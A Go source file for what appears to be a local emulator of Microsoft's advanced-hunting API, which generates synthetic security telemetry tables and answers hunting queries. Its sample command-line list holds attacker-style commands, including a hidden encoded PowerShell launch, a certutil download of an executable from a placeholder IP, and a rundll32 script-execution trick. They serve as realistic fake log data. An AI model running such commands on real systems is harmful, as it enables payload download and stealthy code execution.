package devstack

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"time"
)

// tables are one tenant's advanced-hunting tables.
type tables struct {
	byName map[string]*relation
}

// maxHuntingRows is the documented result limit.
const maxHuntingRows = 100_000

// rowsPerTable is how many events each generated table holds.
const rowsPerTable = 3000

func newTables(seed int64, tid, domain string, anchor time.Time, rows int) *tables {
	if rows <= 0 {
		rows = rowsPerTable
	}
	r := seedFor(seed+7, tid)
	org := strings.TrimSuffix(domain, ".onmicrosoft.com")
	t := &tables{byName: map[string]*relation{}}
	hosts := make([]string, 40)
	devIDs := make([]string, 40)
	for i := range hosts {
		hosts[i] = fmt.Sprintf("ws-%s-%03d.corp.%s.com", pick(r, depts), i, org)
		devIDs[i] = hexStr(r, 40)
	}
	when := func() time.Time {
		return anchor.Add(-time.Duration(r.Int64N(int64(30 * 24 * time.Hour)))).Truncate(100 * time.Nanosecond)
	}
	procs := []string{"powershell.exe", "cmd.exe", "rundll32.exe", "svchost.exe", "explorer.exe", "winword.exe", "excel.exe", "certutil.exe", "mshta.exe", "wmic.exe"}
	cmdlines := []string{"powershell.exe -nop -w hidden -enc SQBFAFgA", "cmd.exe /c whoami /all", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
		"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe", "wmic process call create calc.exe", "excel.exe /dde", "svchost.exe -k netsvcs"}
	gen := func(name string, cols []column, row func(i int) []any) {
		rel := &relation{cols: cols}
		for i := 0; i < rows; i++ {
			rel.rows = append(rel.rows, row(i))
		}
		t.byName[name] = rel
	}
	c := func(spec string) []column {
		var cols []column
		for _, f := range strings.Fields(spec) {
			n, typ, _ := strings.Cut(f, ":")
			cols = append(cols, column{n, typ})
		}
		return cols
	}
	gen("DeviceProcessEvents", c("Timestamp:datetime DeviceId:string DeviceName:string ActionType:string FileName:string FolderPath:string SHA256:string ProcessId:long ProcessCommandLine:string AccountDomain:string AccountName:string InitiatingProcessFileName:string InitiatingProcessCommandLine:string ReportId:long"),
		func(i int) []any {
			d := r.IntN(len(hosts))
			f := pick(r, procs)
			return []any{when(), devIDs[d], hosts[d], "ProcessCreated", f, `C:\Windows\System32\` + f, hexStr(r, 64), int64(1000 + r.IntN(60000)),
				pick(r, cmdlines), "corp", pick(r, firstNames), pick(r, procs), pick(r, cmdlines), int64(10000 + i)}
		})
	gen("DeviceNetworkEvents", c("Timestamp:datetime DeviceId:string DeviceName:string ActionType:string RemoteIP:string RemotePort:int RemoteUrl:string LocalIP:string Protocol:string InitiatingProcessFileName:string ReportId:long"),
		func(i int) []any {
			d := r.IntN(len(hosts))
			return []any{when(), devIDs[d], hosts[d], pick(r, []string{"ConnectionSuccess", "ConnectionSuccess", "ConnectionFailed", "InboundConnectionAccepted"}),
				fmt.Sprintf("%d.%d.%d.%d", 20+r.IntN(180), r.IntN(256), r.IntN(256), 1+r.IntN(254)), int64(pick(r, []int{443, 80, 445, 3389, 8080, 53})),
				pick(r, []string{"login.microsoftonline.com", "example-cdn.net", "update.example.org", "", "c2.example-bad.net"}),
				fmt.Sprintf("10.%d.%d.%d", r.IntN(256), r.IntN(256), 1+r.IntN(254)), "Tcp", pick(r, procs), int64(20000 + i)}
		})
	gen("DeviceLogonEvents", c("Timestamp:datetime DeviceId:string DeviceName:string ActionType:string LogonType:string AccountDomain:string AccountName:string RemoteIP:string IsLocalAdmin:bool ReportId:long"),
		func(i int) []any {
			d := r.IntN(len(hosts))
			return []any{when(), devIDs[d], hosts[d], pick(r, []string{"LogonSuccess", "LogonSuccess", "LogonSuccess", "LogonFailed"}),
				pick(r, []string{"Interactive", "Network", "RemoteInteractive", "Unlock"}), "corp", pick(r, firstNames),
				fmt.Sprintf("10.%d.%d.%d", r.IntN(256), r.IntN(256), 1+r.IntN(254)), r.IntN(5) == 0, int64(30000 + i)}
		})
	gen("DeviceFileEvents", c("Timestamp:datetime DeviceId:string DeviceName:string ActionType:string FileName:string FolderPath:string SHA256:string FileSize:long InitiatingProcessFileName:string ReportId:long"),
		func(i int) []any {
			d := r.IntN(len(hosts))
			return []any{when(), devIDs[d], hosts[d], pick(r, []string{"FileCreated", "FileModified", "FileDeleted", "FileRenamed"}),
				pick(r, []string{"invoice.docm", "payload.dll", "report.xlsx", "update.ps1", "readme.txt.locked"}), `C:\Users\` + pick(r, firstNames) + `\Downloads`,
				hexStr(r, 64), int64(r.IntN(5_000_000)), pick(r, procs), int64(40000 + i)}
		})
	gen("AlertInfo", c("Timestamp:datetime AlertId:string Title:string Category:string Severity:string ServiceSource:string DetectionSource:string AttackTechniques:string"),
		func(i int) []any {
			sc := pick(r, scenarios)
			return []any{when(), fmt.Sprintf("da%d_%d", 638000000000000000+int64(i), r.IntN(1e9)), sc.title, sc.category,
				pick(r, []string{"Low", "Medium", "High", "Informational"}), sc.source, sc.detection, strings.Join(sc.techniques, ",")}
		})
	gen("AlertEvidence", c("Timestamp:datetime AlertId:string Title:string EntityType:string EvidenceRole:string SHA256:string FileName:string RemoteIP:string AccountName:string DeviceName:string"),
		func(i int) []any {
			sc := pick(r, scenarios)
			return []any{when(), fmt.Sprintf("da%d_%d", 638000000000000000+int64(r.IntN(rows)), r.IntN(1e9)), sc.title, pick(r, []string{"File", "Process", "User", "Ip", "Machine"}),
				pick(r, []string{"Impacted", "Related"}), hexStr(r, 64), pick(r, procs), fmt.Sprintf("%d.%d.%d.%d", 20+r.IntN(180), r.IntN(256), r.IntN(256), 1+r.IntN(254)),
				pick(r, firstNames), hosts[r.IntN(len(hosts))]}
		})
	gen("EmailEvents", c("Timestamp:datetime NetworkMessageId:string SenderFromAddress:string SenderFromDomain:string RecipientEmailAddress:string Subject:string EmailDirection:string DeliveryAction:string DeliveryLocation:string ThreatTypes:string AttachmentCount:int UrlCount:int"),
		func(i int) []any {
			dom := pick(r, []string{"example.net", "billing-example.com", "partner.example.org", org + ".com"})
			threat := pick(r, []string{"", "", "", "Phish", "Malware", "Spam"})
			action := "Delivered"
			if threat != "" {
				action = pick(r, []string{"Blocked", "Junked", "Delivered"})
			}
			return []any{when(), fmt.Sprintf("%s-%s-%s-%s-%s", hexStr(r, 8), hexStr(r, 4), hexStr(r, 4), hexStr(r, 4), hexStr(r, 12)),
				pick(r, []string{"billing", "noreply", "ceo", "it-support"}) + "@" + dom, dom, pick(r, firstNames) + "@" + org + ".com",
				pick(r, []string{"Invoice overdue", "Password expiry notice", "Quarterly report", "Shared document", "Lunch?"}),
				pick(r, []string{"Inbound", "Inbound", "Outbound", "Intra-org"}), action, pick(r, []string{"Inbox/folder", "Junk folder", "Quarantine"}), threat,
				int64(r.IntN(3)), int64(r.IntN(5))}
		})
	gen("IdentityLogonEvents", c("Timestamp:datetime ActionType:string Application:string LogonType:string Protocol:string AccountName:string AccountDomain:string AccountUpn:string IPAddress:string DeviceName:string Location:string FailureReason:string"),
		func(i int) []any {
			u := pick(r, firstNames)
			act := pick(r, []string{"LogonSuccess", "LogonSuccess", "LogonFailed"})
			reason := ""
			if act == "LogonFailed" {
				reason = pick(r, []string{"WrongPassword", "AccountLocked", "UnknownUser"})
			}
			return []any{when(), act, pick(r, []string{"Active Directory", "Microsoft 365", "Azure Portal"}), pick(r, []string{"Interactive", "Resource access", "Credentials validation"}),
				pick(r, []string{"Kerberos", "Ntlm", ""}), u, "corp", u + "@" + org + ".com", fmt.Sprintf("%d.%d.%d.%d", 20+r.IntN(180), r.IntN(256), r.IntN(256), 1+r.IntN(254)),
				hosts[r.IntN(len(hosts))], pick(r, []string{"US", "GB", "DE", "NL", "BR"}), reason}
		})
	_ = rand.IntN
	return t
}

var kqlTypeNames = map[string]string{"datetime": "DateTime", "string": "String", "long": "Int64", "int": "Int32", "bool": "Boolean", "real": "Double", "timespan": "TimeSpan"}

var durRe = regexp.MustCompile(`^P(?:(\d+)D)?(?:T(?:(\d+)H)?(?:(\d+)M)?(?:(\d+)S)?)?$`)

func parseISODuration(s string) (time.Duration, bool) {
	m := durRe.FindStringSubmatch(s)
	if m == nil || s == "P" || s == "PT" {
		return 0, false
	}
	var d time.Duration
	for i, unit := range []time.Duration{24 * time.Hour, time.Hour, time.Minute, time.Second} {
		if m[i+1] != "" {
			n, _ := strconv.Atoi(m[i+1])
			d += time.Duration(n) * unit
		}
	}
	return d, true
}

// parseTimespan reads Graph's Timespan forms: "P30D", "start/end",
// "P30D/end", "start/P30D" and a bare start time.
func parseTimespan(s string, now time.Time) (time.Time, time.Time, error) {
	if s == "" {
		return now.Add(-30 * 24 * time.Hour), now, nil
	}
	parseT := func(v string) (time.Time, bool) {
		t, err := time.Parse(time.RFC3339Nano, v)
		return t, err == nil
	}
	a, b, two := strings.Cut(s, "/")
	if !two {
		if d, ok := parseISODuration(a); ok {
			return now.Add(-d), now, nil
		}
		if t, ok := parseT(a); ok {
			return t, now, nil
		}
	} else {
		ta, okA := parseT(a)
		tb, okB := parseT(b)
		da, okDA := parseISODuration(a)
		db, okDB := parseISODuration(b)
		switch {
		case okA && okB && !tb.Before(ta):
			return ta, tb, nil
		case okDA && okB:
			return tb.Add(-da), tb, nil
		case okA && okDB:
			return ta, ta.Add(db), nil
		}
	}
	return time.Time{}, time.Time{}, fmt.Errorf("The Timespan '%s' is not valid. Use an ISO 8601 duration (P30D) or interval (start/end, P30D/end, start/P30D)", s)
}

func (s *Stack) hunt(kind apiKind, w http.ResponseWriter, r *http.Request, c *caller) {
	raw, err := io.ReadAll(io.LimitReader(r.Body, maxBody+1))
	bad := func(code, msg string) { s.apiError(kind, w, 400, code, msg) }
	if err != nil || len(raw) > maxBody {
		bad("BadRequest", "Request body is too large.")
		return
	}
	var body map[string]json.RawMessage
	if err := json.Unmarshal(raw, &body); err != nil {
		bad("InvalidRequestBody", "Request body is incorrect")
		return
	}
	get := func(key string) (string, bool) {
		v, ok := body[key]
		if !ok && kind == apiGraph { // Graph matches property names case-insensitively
			for k, vv := range body {
				if strings.EqualFold(k, key) {
					v, ok = vv, true
				}
			}
		}
		var str string
		if ok && json.Unmarshal(v, &str) != nil {
			return "", false
		}
		return str, ok
	}
	query, ok := get("Query")
	if !ok || strings.TrimSpace(query) == "" {
		bad("MissingRequiredParameter", "Parameter Query is missing.")
		return
	}
	now := time.Now().UTC()
	from, to := now.Add(-30*24*time.Hour), now
	if kind == apiGraph {
		span, _ := get("Timespan")
		if from, to, err = parseTimespan(span, now); err != nil {
			bad("BadRequest", err.Error())
			return
		}
	}
	rel, err := c.tables.run(query, from, to, now)
	if err != nil {
		bad("BadRequest", err.Error())
		return
	}
	if len(rel.rows) > maxHuntingRows {
		bad("BadRequest", "Query execution has exceeded the allowed result size. Optimize your query by limiting the number of results and try again.")
		return
	}
	var b bytes.Buffer
	names := make([][]byte, len(rel.cols))
	for i, col := range rel.cols {
		n, _ := json.Marshal(col.Name)
		names[i] = n
	}
	schema := func(nameKey, typeKey string) {
		b.WriteByte('[')
		for i, col := range rel.cols {
			if i > 0 {
				b.WriteByte(',')
			}
			fmt.Fprintf(&b, `{"%s":%s,"%s":"%s"}`, nameKey, names[i], typeKey, kqlTypeNames[col.Type])
		}
		b.WriteByte(']')
	}
	rows := func() {
		b.WriteByte('[')
		for i, row := range rel.rows {
			if i > 0 {
				b.WriteByte(',')
			}
			b.WriteByte('{')
			for j, v := range row {
				if j > 0 {
					b.WriteByte(',')
				}
				b.Write(names[j])
				b.WriteByte(':')
				writeValue(&b, v)
			}
			b.WriteByte('}')
		}
		b.WriteByte(']')
	}
	if kind == apiGraph {
		b.WriteString(`{"@odata.context":"https://graph.microsoft.com/v1.0/$metadata#microsoft.graph.security.huntingQueryResults","schema":`)
		schema("name", "type")
		b.WriteString(`,"results":`)
		rows()
		b.WriteByte('}')
	} else {
		fmt.Fprintf(&b, `{"Stats":{"ExecutionTime":%.6f,"resource_usage":{"cache":{"memory":{"hits":%d,"misses":0,"total":%d}},"cpu":{"user":"00:00:00.0156250","kernel":"00:00:00","total cpu":"00:00:00.0156250"},"memory":{"peak_per_node":1048576}},"dataset_statistics":[{"table_row_count":%d,"table_size":%d}]},"Schema":`,
			time.Since(now).Seconds(), len(rel.rows), len(rel.rows), len(rel.rows), len(rel.rows)*100)
		schema("Name", "Type")
		b.WriteString(`,"Results":`)
		rows()
		b.WriteByte('}')
	}
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	w.WriteHeader(200)
	w.Write(b.Bytes())
}

func writeValue(b *bytes.Buffer, v any) {
	switch x := v.(type) {
	case nil:
		b.WriteString("null")
	case time.Time:
		b.WriteByte('"')
		b.WriteString(ts(x))
		b.WriteByte('"')
	case time.Duration:
		h := int64(x / time.Hour)
		fmt.Fprintf(b, `"%02d:%02d:%02d"`, h, int64(x/time.Minute)%60, int64(x/time.Second)%60)
	case string:
		enc, _ := json.Marshal(x)
		b.Write(enc)
	case int64:
		b.WriteString(strconv.FormatInt(x, 10))
	case float64:
		b.WriteString(strconv.FormatFloat(x, 'g', -1, 64))
	case bool:
		b.WriteString(strconv.FormatBool(x))
	default:
		enc, _ := json.Marshal(x)
		b.Write(enc)
	}
}
